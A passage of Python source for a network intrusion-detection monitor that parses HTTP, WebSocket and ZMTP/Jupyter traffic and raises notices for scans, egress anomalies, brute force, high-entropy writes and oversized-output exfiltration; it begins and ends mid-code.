        notice.trace_id = span.trace_id
        notice.span_id = span.span_id
        self.telemetry.timeline.record(
            notice.ts, "detector.notice", source=notice.src, ctx=span.ctx,
            name=notice.name, severity=notice.severity, monitor=self.name)

    # -- wiring ---------------------------------------------------------------------
    def attach(self, tap: NetworkTap) -> None:
        tap.subscribe(self.on_segment)

    def _note(self, notice: Optional[Notice]) -> None:
        if notice is not None:
            if self._tele_on:
                self._stamp(notice)
            self.logs.notices.append(notice)

    # -- budget (DoS) ------------------------------------------------------------------
    def _over_budget(self, ts: float) -> bool:
        if self.budget <= 0:
            return False
        second = int(ts)
        sec, count = self._budget_bucket
        if second != sec:
            self._budget_bucket = (second, 1)
            return False
        self._budget_bucket = (second, count + 1)
        return count + 1 > self.budget

    # -- segment intake ----------------------------------------------------------------
    def on_segment(self, seg: Segment) -> None:
        """Live per-segment path, fused: intake bookkeeping and protocol
        dispatch in one frame.  Semantically identical to
        ``_intake`` + ``_analyze_data`` (the batched-replay decomposition,
        whose parity the BENCH-WIRE batched test asserts); the fusion
        exists because at trace rates the two extra Python calls and the
        intermediate tuple were a measurable share of per-segment cost."""
        ts = seg.ts
        payload = seg.payload
        size = len(payload)
        health = self.health
        health.segments_seen += 1
        health.bytes_seen += size
        if self.budget > 0 and self._over_budget(ts):
            health.segments_dropped += 1
            return
        src = seg.src
        dst = seg.dst
        key = seg.conn_id or f"{src}:{seg.sport}->{dst}:{seg.dport}"
        conn = self._conns.get(key)
        if conn is None:
            conn = ConnRecord(ts, key, src, seg.sport, dst, seg.dport)
            self._conns[key] = conn
            self.logs.conn.append(conn)
        flags = seg.flags
        if flags:
            if flags == "R":
                conn.service = conn.service or "rejected"
                return
            if flags == "S":
                self._note(self.scan.observe_probe(ts, src, dst, seg.dport))
                return
            if flags == "F":
                conn.closed = True
                conn.duration = ts - conn.ts
                return
        if src == conn.src and seg.sport == conn.sport:
            orig = True
            conn.bytes_orig += size
        else:
            orig = False
            conn.bytes_resp += size
        flow = (src, dst)
        is_egress = self._egress_flows.get(flow)
        if is_egress is None:
            prefix = self.internal_prefix
            is_egress = src.startswith(prefix) and not dst.startswith(prefix)
            self._egress_flows[flow] = is_egress
        if is_egress:
            # Inline the None-check so quiet egress traffic (the common
            # case) costs three detector calls and no _note dispatch.
            n = self.egress.observe_bytes(ts, src, dst, size)
            if n is not None:
                self._note(n)
            n = self.cusum.observe_bytes(ts, src, dst, size)
            if n is not None:
                self._note(n)
            n = self.beacon.observe_send(ts, src, dst, size)
            if n is not None:
                self._note(n)
        if not size or not self._depth_http:
            return
        dkey = (conn.uid, orig)
        state = self._dirstate.get(dkey)
        if state is None:
            state = _DirState()
            self._dirstate[dkey] = state
        try:
            protocol = state.protocol
            if protocol == "websocket":
                if self._depth_ws:
                    self._feed_ws(ts, conn, orig, state, payload)
            elif protocol == "zmtp":
                if self._depth_zmtp:
                    self._feed_zmtp(ts, conn, orig, state, payload)
            elif protocol != "opaque" and protocol != "broken":
                self._analyze_buffered(ts, payload, conn, orig, state)
        except ProtocolError as e:
            health.parse_errors += 1
            self.logs.weird.append(WeirdRecord(ts, conn.uid, "parse_error", str(e)))
            state.protocol = "broken"
            state.buffer.clear()

    def _intake(self, seg: Segment) -> Optional[Tuple[ConnRecord, bool]]:
        """Per-segment bookkeeping (health, conn accounting, byte-level
        detector fan-out).  Returns ``(conn, origin_to_responder)`` when
        the payload still needs protocol analysis, ``None`` otherwise —
        the split that lets :meth:`replay_segments` batch analyzer calls
        without changing any per-segment detector semantics."""
        ts, src, dst, size = seg.ts, seg.src, seg.dst, len(seg.payload)
        health = self.health
        health.segments_seen += 1
        health.bytes_seen += size
        if self.budget > 0 and self._over_budget(ts):
            health.segments_dropped += 1
            return None
        key = seg.conn_id or f"{src}:{seg.sport}->{dst}:{seg.dport}"
        conn = self._conns.get(key)
        if conn is None:
            conn = ConnRecord(ts, key, src, seg.sport, dst, seg.dport)
            self._conns[key] = conn
            self.logs.conn.append(conn)
        flags = seg.flags
        if flags:
            if flags == "R":
                # The reset direction of a refused probe; the SYN already
                # fed the scan detector, so just mark the conn rejected.
                conn.service = conn.service or "rejected"
                return None
            if flags == "S":
                self._note(self.scan.observe_probe(ts, src, dst, seg.dport))
                return None
            if flags == "F":
                conn.closed = True
                conn.duration = ts - conn.ts
                return None
        origin_to_responder = src == conn.src and seg.sport == conn.sport
        if origin_to_responder:
            conn.bytes_orig += size
        else:
            conn.bytes_resp += size
        # Egress accounting happens at the segment level: every outbound
        # byte counts, regardless of protocol.  All three byte-level
        # detectors gate on the same internal→external test, so the
        # verdict is cached per flow and internal↔internal traffic (the
        # vast majority at a hub tap) skips the fan-out entirely.
        flow = (src, dst)
        is_egress = self._egress_flows.get(flow)
        if is_egress is None:
            prefix = self.internal_prefix
            is_egress = src.startswith(prefix) and not dst.startswith(prefix)
            self._egress_flows[flow] = is_egress
        if is_egress:
            # Inline the None-check so quiet egress traffic (the common
            # case) costs three detector calls and no _note dispatch.
            n = self.egress.observe_bytes(ts, src, dst, size)
            if n is not None:
                self._note(n)
            n = self.cusum.observe_bytes(ts, src, dst, size)
            if n is not None:
                self._note(n)
            n = self.beacon.observe_send(ts, src, dst, size)
            if n is not None:
                self._note(n)
        if size and self._depth_http:
            return conn, origin_to_responder
        return None

    def replay_segments(self, segments, *, across_connections: bool = False,
                        max_pending: int = 64) -> int:
        """Batched offline replay: feed a recorded trace with runs of
        same-connection, same-direction data segments coalesced into one
        analyzer call each.

        Bookkeeping (health counters, conn accounting, the byte-level
        egress/CUSUM/beacon fan-out, budget drops) stays per-segment
        with each segment's own timestamp, so detector semantics match
        :meth:`on_segment` exactly.  Only the protocol-analysis layer is
        batched: records completed inside a coalesced run carry the
        run's last timestamp (a live tap delivers them at most that
        late).  Returns the number of analyzer calls made — versus
        ``len(segments)`` for the unbatched path; BENCH-WIRE records the
        before/after throughput.

        ``across_connections=True`` extends the coalescing window past
        connection interleaving: pending runs accumulate per
        ``(connection, direction)`` and flush together once
        ``max_pending`` distinct keys are in flight (or at end of
        trace), so an interleaved multiplex still batches.  Per-stream
        byte order and per-log-family record order are preserved;
        records from *different* connections may flush in key-arrival
        rather than strict segment order, each at its run's last
        timestamp — the same relaxation the contiguous mode already
        applies within a run.
        """
        if across_connections:
            return self._replay_across(segments, max_pending)
        pending_conn: Optional[ConnRecord] = None
        pending_orig = False
        last_ts = 0.0
        chunks: List[bytes] = []  # slab-reused across runs
        calls = 0
        analyze = self._analyze_data
        intake_of = self._intake
        for seg in segments:
            intake = intake_of(seg)
            if intake is None:
                continue
            conn, orig = intake
            if conn is pending_conn and orig == pending_orig:
                chunks.append(seg.payload)
                last_ts = seg.ts
                continue
            if pending_conn is not None:
                analyze(last_ts, chunks[0] if len(chunks) == 1 else b"".join(chunks),
                        pending_conn, pending_orig)
                calls += 1
                del chunks[:]
            pending_conn, pending_orig = conn, orig
            chunks.append(seg.payload)
            last_ts = seg.ts
        if pending_conn is not None:
            analyze(last_ts, chunks[0] if len(chunks) == 1 else b"".join(chunks),
                    pending_conn, pending_orig)
            calls += 1
            del chunks[:]
        return calls

    def _replay_across(self, segments, max_pending: int) -> int:
        """Across-connections batching loop, fused with the intake
        bookkeeping the same way :meth:`on_segment` fuses it: the
        ``_intake`` call, its return tuple, and the repeated attribute
        loads cost ~0.2 µs per segment, which at trace rates is a few
        percent of the whole batched run.  Semantically identical to
        ``_intake`` + run accumulation (the contiguous mode below keeps
        the decomposed form); BENCH-WIRE's batched parity run asserts
        the outputs match."""
        pending: Dict[Tuple[str, bool], list] = {}
        pending_get = pending.get
        calls = 0
        health = self.health
        conns_get = self._conns.get
        egress_get = self._egress_flows.get
        budget_on = self.budget > 0
        depth_http = self._depth_http
        for seg in segments:
            ts = seg.ts
            payload = seg.payload
            size = len(payload)
            health.segments_seen += 1
            health.bytes_seen += size
            if budget_on and self._over_budget(ts):
                health.segments_dropped += 1
                continue
            src = seg.src
            dst = seg.dst
            key = seg.conn_id or f"{src}:{seg.sport}->{dst}:{seg.dport}"
            conn = conns_get(key)
            if conn is None:
                conn = ConnRecord(ts, key, src, seg.sport, dst, seg.dport)
                self._conns[key] = conn
                self.logs.conn.append(conn)
            flags = seg.flags
            if flags:
                if flags == "R":
                    conn.service = conn.service or "rejected"
                    continue
                if flags == "S":
                    self._note(self.scan.observe_probe(ts, src, dst, seg.dport))
                    continue
                if flags == "F":
                    conn.closed = True
                    conn.duration = ts - conn.ts
                    continue
            if src == conn.src and seg.sport == conn.sport:
                orig = True
                conn.bytes_orig += size
            else:
                orig = False
                conn.bytes_resp += size
            flow = (src, dst)
            is_egress = egress_get(flow)
            if is_egress is None:
                prefix = self.internal_prefix
                is_egress = src.startswith(prefix) and not dst.startswith(prefix)
                self._egress_flows[flow] = is_egress
            if is_egress:
                n = self.egress.observe_bytes(ts, src, dst, size)
                if n is not None:
                    self._note(n)
                n = self.cusum.observe_bytes(ts, src, dst, size)
                if n is not None:
                    self._note(n)
                n = self.beacon.observe_send(ts, src, dst, size)
                if n is not None:
                    self._note(n)
            if not size or not depth_http:
                continue
            # ``key`` is ``conn.uid`` by construction (the conn was
            # created under it), so the run key needs no attribute load.
            run = pending_get((key, orig))
            if run is None:
                if len(pending) >= max_pending:
                    calls += self._flush_pending(pending)
                pending[(key, orig)] = [conn, orig, ts, [payload]]
            else:
                run[2] = ts
                run[3].append(payload)
        calls += self._flush_pending(pending)
        return calls

    def _flush_pending(self, pending: Dict[Tuple[str, bool], list]) -> int:
        analyze = self._analyze_data
        n = 0
        for conn, orig, ts, chunks in pending.values():
            analyze(ts, chunks[0] if len(chunks) == 1 else b"".join(chunks), conn, orig)
            n += 1
        pending.clear()
        return n

    # -- protocol analysis ----------------------------------------------------------------
    def _dir(self, conn: ConnRecord, orig: bool) -> _DirState:
        key = (conn.uid, orig)
        state = self._dirstate.get(key)
        if state is None:
            state = _DirState()
            self._dirstate[key] = state
        return state

    def _analyze_data(self, ts: float, data: bytes, conn: ConnRecord, orig: bool) -> None:
        """Protocol analysis for one (possibly coalesced) run of payload
        bytes — the layer below :meth:`_intake` on the batched replay
        path (the live path fuses this logic into :meth:`on_segment`)."""
        key = (conn.uid, orig)
        state = self._dirstate.get(key)
        if state is None:
            state = _DirState()
            self._dirstate[key] = state
        try:
            # Upgraded protocols skip the direction buffer entirely:
            # segment payloads go straight into the incremental decoder
            # (zero staging copies).  Protocols nothing will ever parse
            # ("opaque", "broken", or layers above our depth) buffer
            # nothing, so a firehose of unparseable traffic cannot grow
            # monitor memory.
            protocol = state.protocol
            if protocol == "websocket":
                if self._depth_ws:
                    self._feed_ws(ts, conn, orig, state, data)
            elif protocol == "zmtp":
                if self._depth_zmtp:
                    self._feed_zmtp(ts, conn, orig, state, data)
            elif protocol != "opaque" and protocol != "broken":
                self._analyze_buffered(ts, data, conn, orig, state)
        except ProtocolError as e:
            self.health.parse_errors += 1
            self.logs.weird.append(WeirdRecord(ts, conn.uid, "parse_error", str(e)))
            state.protocol = "broken"
            state.buffer.clear()

    def _analyze_buffered(self, ts: float, data: bytes, conn: ConnRecord,
                          orig: bool, state: _DirState) -> None:
        """Pre-upgrade byte handling: stage into the direction buffer,
        sniff the protocol, and run the buffered-protocol analyzers."""
        state.buffer.append(data)
        if self.max_buffered_bytes and len(state.buffer) > self.max_buffered_bytes:
            raise ProtocolError(
                f"direction buffer exceeds cap ({len(state.buffer)} > "
                f"{self.max_buffered_bytes}) without a parseable message")
        if state.protocol == "unknown":
            self._sniff(state, conn)
        if state.protocol == "http":
            self._analyze_http(ts, conn, orig, state)
        elif state.protocol == "zmtp":
            # Sniffed just now: drain the sniff buffer into the decoder.
            if self.depth >= AnalyzerDepth.ZMTP:
                self._feed_zmtp(ts, conn, orig, state, state.buffer.take_all())
            else:
                state.buffer.clear()

    def _sniff(self, state: _DirState, conn: ConnRecord) -> None:
        if len(state.buffer) < 4:
            return
        head = state.buffer.peek(5)
        if head[:4] in _HTTP_METHODS or head.startswith(b"HTTP/"):
            state.protocol = "http"
            conn.service = conn.service or "http"
        elif head.startswith(SIGNATURE_PREFIX[:4]):
            state.protocol = "zmtp"
            state.zmtp_decoder = ZmtpDecoder(collect_commands=False, counters=self._zmtp_counters)
            conn.service = "zmtp"
        else:
            state.protocol = "opaque"
            state.buffer.clear()

    def _analyze_http(self, ts: float, conn: ConnRecord, orig: bool, state: _DirState) -> None:
        while True:
            if orig:
                consumed_before = state.buffer.total_consumed
                req = parse_request_from(state.buffer)
                if req is None:
                    return
                wire_bytes = state.buffer.total_consumed - consumed_before
                self.health.bytes_http += wire_bytes
                rec = HttpRecord(
                    ts=ts, uid=conn.uid, src=conn.src, dst=conn.dst,
                    method=req.method, path=req.path,
                    request_bytes=len(req.body),
                    has_auth=bool(req.header("authorization")),
                    user_agent=req.header("user-agent"),
                )
                if self._tele_on:
                    # The proxy stamps backend legs with X-Request-Id and
                    # binds it in the shared tracer; resolving it here is
                    # the causal join.  X-Forwarded-For names the actual
                    # client, so notices keyed by client ip can find the
                    # request context even though this leg's conn.src is
                    # the proxy.
                    rid = req.header("x-request-id")
                    if rid:
                        ctx = self.telemetry.tracer.resolve(rid)
                        if ctx is not None:
                            rec.request_id = rid
                            client = req.header("x-forwarded-for") or conn.src
                            self._remember_ctx(client, ctx)
                self.logs.http.append(rec)
                # Bytes go straight to the signature engine: it decodes
                # latin-1 lazily, only when an http-body rule family is
                # actually installed (most runs: never).
                for n in self.signatures.scan_http(rec, req.body):
                    self._note(n)
                # Hub-path visibility: a client IP spread across tenants.
                self._note(self.tenantsweep.observe_request(ts, conn.src, req.path))
                # Traffic-analysis recon: the metronomic probe-train
                # cadence a timing fingerprinter induces.  Backend legs
                # carry the proxy as src — only client-facing traffic
                # can be an external prober.
                if conn.src not in self.infrastructure_ips:
                    self._note(self.trafficpattern.observe_request(
                        ts, conn.src, req.path, wire_bytes, method=req.method))
                # Network-plane ransomware signal: high-entropy PUT bodies.
                if req.method in ("PUT", "POST") and req.body:
                    content = req.body
                    if req.path.startswith("/api/contents"):
                        content = self._extract_content_bytes(req.body)
                    self._note(self.entropy.observe_write(ts, req.path, content, src=conn.src))
                if req.is_websocket_upgrade():
                    state.http_requests.append(("UPGRADE", req.path))
                else:
                    state.http_requests.append((req.method, req.path))
            else:
                consumed_before = state.buffer.total_consumed
                resp = parse_response_from(state.buffer)
                if resp is None:
                    return
                self.health.bytes_http += state.buffer.total_consumed - consumed_before
                peer = self._dir(conn, True)
                method, path = peer.http_requests.pop(0) if peer.http_requests else ("", "")
                for rec in reversed(self.logs.http):
                    if rec.uid == conn.uid and rec.status == 0 and rec.path == path:
                        rec.status = resp.status
                        rec.response_bytes = len(resp.body)
                        break
                # Auth outcome signals (brute force / stolen token); hub
                # paths (/user/<name>/api, /hub/api) carry the same signal.
                if (path.startswith(("/api", "/user/", "/hub/"))
                        and resp.status in (200, 201, 204, 403, 101)
                        and conn.src not in self.infrastructure_ips):
                    ok = resp.status != 403
                    self._note(self.bruteforce.observe_auth(ts, conn.src, ok))
                    self._note(self.newsource.observe_auth(ts, conn.src, ok))
                if resp.status == 101:
                    if method == "UPGRADE":
                        conn.service = "websocket"
                        # Both directions switch to WS framing; any bytes
                        # already buffered (frames behind the handshake)
                        # drain straight into the new decoders.
                        for d in (True, False):
                            s = self._dir(conn, d)
                            s.protocol = "websocket"
                            s.ws_decoder = WebSocketDecoder(collect_frames=False, counters=self._ws_counters)
                            leftover = s.buffer.take_all()
                            if leftover and self._depth_ws:
                                self._feed_ws(ts, conn, d, s, leftover)
                    return

    @staticmethod
    def _extract_content_bytes(body: bytes) -> bytes:
        """Pull the 'content' field out of a contents-API JSON body."""
        try:
            model = json.loads(body)
            content = model.get("content", "")
            if isinstance(content, str):
                if model.get("format") == "base64":
                    import base64

                    return base64.b64decode(content)
                return content.encode("utf-8", "replace")
            return json.dumps(content).encode()
        except (json.JSONDecodeError, ValueError, AttributeError):
            return body

    #: msg_types whose content size feeds the output-smuggling detector.
    _OUTPUT_MSG_TYPES = frozenset(("execute_result", "display_data", "stream"))

    def _feed_ws(self, ts: float, conn: ConnRecord, orig: bool, state: _DirState,
                 data: bytes) -> None:
        if state.ws_decoder is None:
            state.ws_decoder = WebSocketDecoder(collect_frames=False, counters=self._ws_counters)
        decoder = state.ws_decoder
        consumed_before = decoder.bytes_consumed
        decoder.feed(data)
        ws_append, _, jup_append, _, seen, scan_jupyter, health = self._hot
        health.bytes_ws += decoder.bytes_consumed - consumed_before
        prof = self._prof
        if prof is not None:
            prof.account(_PROF_FEED_WS,
                         decoder.bytes_consumed - consumed_before)
        msgs = decoder.messages()
        if not msgs:
            return
        src = conn.src if orig else conn.dst
        dst = conn.dst if orig else conn.src
        uid = conn.uid
        jupyter_depth = self._depth_jup
        # One pass over the drained messages.  The canonical-form probe
        # (see repro.wire.jupyter) field-extracts the overwhelmingly
        # common sender shape with a handful of C calls; everything it
        # cannot prove canonical takes _analyze_jupyter_ws, whose output
        # is byte-identical by construction.  Hot locals are bound once
        # per feed so the loop does no repeated attribute walks.
        make_jup = JupyterMsgRecord
        opcode_names = _OPCODE_NAMES
        dedupe_on = self.dedupe_msg_ids
        out_types = self._OUTPUT_MSG_TYPES
        out_threshold = self.output_size_threshold
        probe = probe_ws_canonical
        decode_json = _json_decode
        text_op = Opcode.TEXT
        binary_op = Opcode.BINARY
        jmsgs = jhits = pfallback = 0  # health counters accumulate in locals
        for opcode, payload in msgs:
            # Slab append (LazyRecordList): a plain field tuple, in
            # WebSocketRecord positional order; entropy stays lazy off
            # the pinned payload, materialization lazier still.
            ws_append((ts, uid, src, dst, opcode_names[opcode],
                       len(payload), orig, 0.0, payload))
            if not jupyter_depth or (opcode is not text_op and opcode is not binary_op):
                continue
            pr = probe(payload)
            if pr is None:
                pfallback += 1
                self._analyze_jupyter_ws_slow(ts, uid, src, dst, payload)
                continue
            msg_id, msg_type, session, username, channel, cs, ce = pr
            dedupe = dedupe_on and bool(msg_id)
            flags = seen.get(msg_id, 0) if dedupe else 0
            jmsgs += 1
            if flags & _MSG_WS_SEEN:
                # Proxy-relayed leg: log it, skip the paid-for content work.
                jhits += 1
                jup_append((ts, uid, src, dst, channel, msg_type,
                            session, username, 0, 0, "", None))
                continue
            code = ""
            if flags & _MSG_CONTENT_SCANNED:
                jhits += 1
            elif (payload.find(b'"code"', cs, ce) >= 0
                  or payload.find(b"\\u", cs, ce) >= 0):
                # Span-backend semantics (LazyJupyterMessage on canonical
                # spans): content is decoded only when the span can carry
                # ``code``; bad JSON is a silent None, and sizing below
                # never needs the decode.
                try:
                    content = decode_json(payload[cs:ce].decode("utf-8"))
                except (json.JSONDecodeError, UnicodeDecodeError, ValueError):
                    content = None
                if type(content) is dict:
                    code = content.get("code", "")
                    if type(code) is not str:
                        code = str(code)
            if msg_type in out_types:
                # Raw-span size, whitespace-trimmed to the exact bytes
                # the tokenizer backend would have spanned.
                while cs < ce and payload[ce - 1] in b" \t\r\n":
                    ce -= 1
                while cs < ce and payload[cs] in b" \t\r\n":
                    cs += 1
                output_size = ce - cs
            else:
                output_size = 0
            if code or output_size > out_threshold:
                rec = make_jup(ts, uid, src, dst, channel, msg_type, session,
                               username, len(code), output_size, code)
                jup_append(rec)
                if output_size > out_threshold:
                    self._note(self._oversized_output_notice(rec))
                if code:
                    for n in scan_jupyter(rec):
                        self._note(n)
            else:
                # No detector reads this record during analysis: slab
                # tuple, materialized only if a consumer looks at it.
                jup_append((ts, uid, src, dst, channel, msg_type, session,
                            username, 0, output_size, "", None))
            if dedupe:
                # Inlined _mark_msg(msg_id, _MSG_WS_SEEN | _MSG_CONTENT_SCANNED).
                if flags:
                    seen[msg_id] = flags | (_MSG_WS_SEEN | _MSG_CONTENT_SCANNED)
                elif len(seen) < _MSG_DEDUPE_CAP:
                    seen[msg_id] = _MSG_WS_SEEN | _MSG_CONTENT_SCANNED
                else:
                    del seen[next(iter(seen))]
                    seen[msg_id] = _MSG_WS_SEEN | _MSG_CONTENT_SCANNED
        if jmsgs:
            health.jupyter_msgs += jmsgs
            health.jupyter_dedup_hits += jhits
        if prof is not None:
            if jmsgs:
                prof.account(PROF_WS_PROBE, jmsgs)
            if pfallback:
                prof.account(PROF_WS_FALLBACK, pfallback)

    def _analyze_jupyter_ws_slow(self, ts: float, uid: str, src: str, dst: str,
                                 payload: bytes) -> None:
        """Non-canonical WS payloads: run the classic analysis into the
        slab-reused scratch lists and drain them into the log store."""
        records = self._scratch_records
        notices = self._scratch_notices
        weird = self._scratch_weird
        self._analyze_jupyter_ws(ts, uid, src, dst, payload, records, notices, weird)
        if records:
            self.logs.jupyter.extend(records)
            records.clear()
        if notices:
            for n in notices:
                self._note(n)
            notices.clear()
        if weird:
            self.logs.weird.extend(weird)
            weird.clear()

    # -- msg_id dedupe store ---------------------------------------------------
    def _msg_flags(self, msg_id: str) -> int:
        return self._seen_msg_ids.get(msg_id, 0)

    def _mark_msg(self, msg_id: str, flags: int) -> None:
        seen = self._seen_msg_ids
        current = seen.get(msg_id)
        if current is None:
            if len(seen) >= _MSG_DEDUPE_CAP:
                # FIFO eviction off plain-dict insertion order: legs of
                # one message arrive within milliseconds, far inside the
                # cap's slack, so LRU refinement buys nothing here.
                del seen[next(iter(seen))]
            seen[msg_id] = flags
        else:
            seen[msg_id] = current | flags

    def _analyze_jupyter_ws(self, ts: float, uid: str, src: str, dst: str, payload: bytes,
                            records: List[JupyterMsgRecord], notices: List[Notice],
                            weird: List[WeirdRecord]) -> None:
        msg = LazyJupyterMessage.parse(payload)
        header = msg.header if msg is not None else None
        if type(header) is not dict or "msg_type" not in header:
            weird.append(WeirdRecord(ts, uid, "ws_not_jupyter", ""))
            return
        get = header.get
        msg_type = get("msg_type", "")
        if type(msg_type) is not str:
            msg_type = str(msg_type)
        session = get("session", "")
        username = get("username", "")
        msg_id = get("msg_id", "")
        dedupe = self.dedupe_msg_ids and type(msg_id) is str and bool(msg_id)
        flags = self._msg_flags(msg_id) if dedupe else 0
        self.health.jupyter_msgs += 1
        if flags & _MSG_WS_SEEN:
            # The same WS bytes, relayed through a proxy hop: log the
            # leg, skip the content work the first leg already did.
            self.health.jupyter_dedup_hits += 1
            records.append(JupyterMsgRecord(
                ts, uid, src, dst, msg.channel, msg_type,
                session if type(session) is str else str(session),
                username if type(username) is str else str(username),
            ))
            return
        # Lazy content: only messages that can possibly carry code pay
        # the content JSON decode; everything else is sized from the raw
        # span without being parsed at all.  A msg_id whose content an
        # earlier (ZMTP) leg already scanned skips even that.
        code = ""
        if not (flags & _MSG_CONTENT_SCANNED) and msg.content_contains(b'"code"'):
            content = msg.content
            if isinstance(content, dict):
                code = content.get("code", "")
                if type(code) is not str:
                    code = str(code)
        elif flags & _MSG_CONTENT_SCANNED:
            self.health.jupyter_dedup_hits += 1
        # Output sizing stays per-WS-leg: the ZMTP analyzer never sizes
        # outputs, so the smuggling detector keys on the first WS leg.
        output_size = msg.content_size() if msg_type in self._OUTPUT_MSG_TYPES else 0
        rec = JupyterMsgRecord(
            ts, uid, src, dst, msg.channel, msg_type,
            session if type(session) is str else str(session),
            username if type(username) is str else str(username),
            len(code), output_size, code,
        )
        records.append(rec)
        if output_size > self.output_size_threshold:
            notices.append(self._oversized_output_notice(rec))
        if code:
            notices.extend(self.signatures.scan_jupyter(rec))
        if dedupe:
            # Marking CONTENT_SCANNED here is sound even when no decode
            # happened: content_contains() only reports False when the
            # raw bytes can *prove* no ``code`` key exists (it forces
            # True on any ``\u`` escape), so a skipped decode is itself
            # a completed scan verdict, not a gap the ZMTP leg must fill.
            self._mark_msg(msg_id, _MSG_WS_SEEN | _MSG_CONTENT_SCANNED)

    def _oversized_output_notice(self, rec: JupyterMsgRecord) -> Notice:
        """Output-channel smuggling: data exfiltrated *through iopub* never
        touches an attacker socket, so volume detectors are blind — but a
        single text output larger than any plausible repr is the tell."""
        return Notice(
            ts=rec.ts, detector="jupyter-layer", name="OVERSIZED_OUTPUT",
            severity="high", src=rec.src, dst=rec.dst,
            avenue=Avenue.DATA_EXFILTRATION,
            detail={"output_size": rec.output_size, "msg_type": rec.msg_type,
                    "threshold": self.output_size_threshold},
        )

    def _feed_zmtp(self, ts: float, conn: ConnRecord, orig: bool, state: _DirState,
                   data: bytes) -> None:
        decoder = state.zmtp_decoder
        if decoder is None:
            decoder = state.zmtp_decoder = ZmtpDecoder(
                collect_commands=False, counters=self._zmtp_counters)
        consumed_before = decoder.bytes_consumed
        decoder.feed(data)
        _, zmtp_append, jup_append, weird_append, seen, scan_jupyter, health = self._hot
        health.bytes_zmtp += decoder.bytes_consumed - consumed_before
        prof = self._prof
        if prof is not None:
            prof.account(_PROF_FEED_ZMTP,
                         decoder.bytes_consumed - consumed_before)
        msgs = decoder.messages()
        if not msgs:
            return
        src = conn.src if orig else conn.dst
        dst = conn.dst if orig else conn.src
        mechanism = (decoder.greeting or {}).get("mechanism", "")
        uid = conn.uid
        # One fused pass per multipart message: the wire record and the
        # JUPYTER-depth analysis share the loop, so canonical kernel
        # traffic costs one probe, one record pair, and a couple of dict
        # hits — no per-message method dispatch.  Hot locals are bound
        # once per drained batch.
        make_jup = JupyterMsgRecord
        jupyter_depth = self._depth_jup
        probe = probe_zmtp_header
        decode_json = _json_decode
        dedupe_on = self.dedupe_msg_ids
        session_key = self.session_key
        marker = _ZMTP_DELIM
        jmsgs = jhits = 0  # health counters accumulate in locals
        for parts in msgs:
            # Slab append: ZmtpRecord field tuple (see LazyRecordList).
            zmtp_append((ts, uid, src, dst, len(parts),
                         sum(map(len, parts)), mechanism))
            if not jupyter_depth:
                continue
            try:
                idx = parts.index(marker)
            except ValueError:
                continue
            if len(parts) - idx - 1 < 5:
                continue
            pm = probe(parts[idx + 2])
            if pm is None:
                self._analyze_jupyter_zmtp(ts, conn, src, dst, parts, idx)
                continue
            msg_id, msg_type, session, username = pm
            dedupe = dedupe_on and bool(msg_id)
            flags = seen.get(msg_id, 0) if dedupe else 0
            jmsgs += 1
            skip_content = flags & (_MSG_CONTENT_SCANNED | _MSG_ZMTP_SEEN)
            code = ""
            if skip_content:
                # Another leg of this msg_id (usually the WS hop the tap
                # saw first) already parsed and signature-scanned the
                # content; this leg only needs the header-level record
                # and — below — the transport-specific HMAC check.
                jhits += 1
            else:
                content_b = parts[idx + 5]
                if b'"code"' in content_b or b"\\u" in content_b:
                    try:
                        content = decode_json(content_b.decode("utf-8"))
                    except (json.JSONDecodeError, UnicodeDecodeError):
                        weird_append(
                            WeirdRecord(ts, uid, "zmtp_bad_jupyter_json", ""))
                        continue
                    if type(content) is dict:
                        code = content.get("code", "")
                        if type(code) is not str:
                            code = str(code)
            sig_ok: Optional[bool] = None
            if session_key:
                from repro.crypto.signing import HMACSigner

                sig_ok = HMACSigner(session_key).verify(
                    parts[idx + 2 : idx + 6], parts[idx + 1])
                if not sig_ok:
                    self._note(Notice(
                        ts=ts, detector="integrity", name="BAD_MESSAGE_SIGNATURE",
                        severity="high", src=src, dst=dst, avenue=None,
                        detail={"msg_type": msg_type},
                    ))
            if code:
                rec = make_jup(ts, uid, src, dst, "zmtp", msg_type, session,
                               username, len(code), 0, code, sig_ok)
                jup_append(rec)
                for n in scan_jupyter(rec):
                    self._note(n)
            else:
                jup_append((ts, uid, src, dst, "zmtp", msg_type, session,
                            username, 0, 0, "", sig_ok))
            if dedupe:
                # Inlined _mark_msg(msg_id, ...).
                new_flags = _MSG_ZMTP_SEEN | (0 if skip_content else _MSG_CONTENT_SCANNED)
                if flags:
                    seen[msg_id] = flags | new_flags
                elif len(seen) < _MSG_DEDUPE_CAP:
                    seen[msg_id] = new_flags
                else:
                    del seen[next(iter(seen))]
                    seen[msg_id] = new_flags
        if jmsgs:
            health.jupyter_msgs += jmsgs
            health.jupyter_dedup_hits += jhits
        if prof is not None and jmsgs:
            prof.account(PROF_ZMTP_PROBE, jmsgs)

    def _analyze_jupyter_zmtp(self, ts: float, conn: ConnRecord, src: str, dst: str,
                              parts: List[bytes], idx: int) -> None:
        """Classic fallback for non-canonical ZMTP headers (the probe in
        :meth:`_feed_zmtp` already failed): full JSON header parse, then
        the shared message tail."""
        header_b = parts[idx + 2]
        try:
            header = _json_decode(header_b.decode("utf-8"))
        except (json.JSONDecodeError, UnicodeDecodeError):
            self.logs.weird.append(WeirdRecord(ts, conn.uid, "zmtp_bad_jupyter_json", ""))
            return
        if isinstance(header, dict):
            msg_id = header.get("msg_id", "")
            msg_type = header.get("msg_type", "")
            session = header.get("session", "")
            username = header.get("username", "")
        else:
            msg_id = msg_type = session = username = ""
        self._zmtp_msg(ts, conn, src, dst, parts, idx,
                       msg_id, msg_type, session, username)

    def _zmtp_msg(self, ts: float, conn: ConnRecord, src: str, dst: str,
                  parts: List[bytes], idx: int, msg_id, msg_type, session,
                  username) -> None:
        """Header-decoded tail of the ZMTP Jupyter analysis, shared by the
        canonical probe and the classic JSON-parse path.  Field arguments
        may be non-str on weird classic-path traffic; they are normalized
        at record time, matching the classic behavior."""
        dedupe = self.dedupe_msg_ids and type(msg_id) is str and bool(msg_id)
        flags = self._seen_msg_ids.get(msg_id, 0) if dedupe else 0
        health = self.health
        health.jupyter_msgs += 1
        skip_content = bool(flags & (_MSG_CONTENT_SCANNED | _MSG_ZMTP_SEEN))
        if skip_content:
            # Another leg of this msg_id (usually the WS hop the tap saw
            # first) already parsed and signature-scanned the content;
            # this leg only needs the header-level record and — below —
            # the transport-specific HMAC check.
            health.jupyter_dedup_hits += 1
        # Lazy content, matching the fused fast path in _feed_zmtp:
        # content is decoded only when the raw bytes can actually carry
        # ``code`` — a ``\u`` escape could spell the key, so it also
        # forces a decode.  Code-free content (outputs, status) is never
        # validated; malformed-but-codeless content therefore logs a
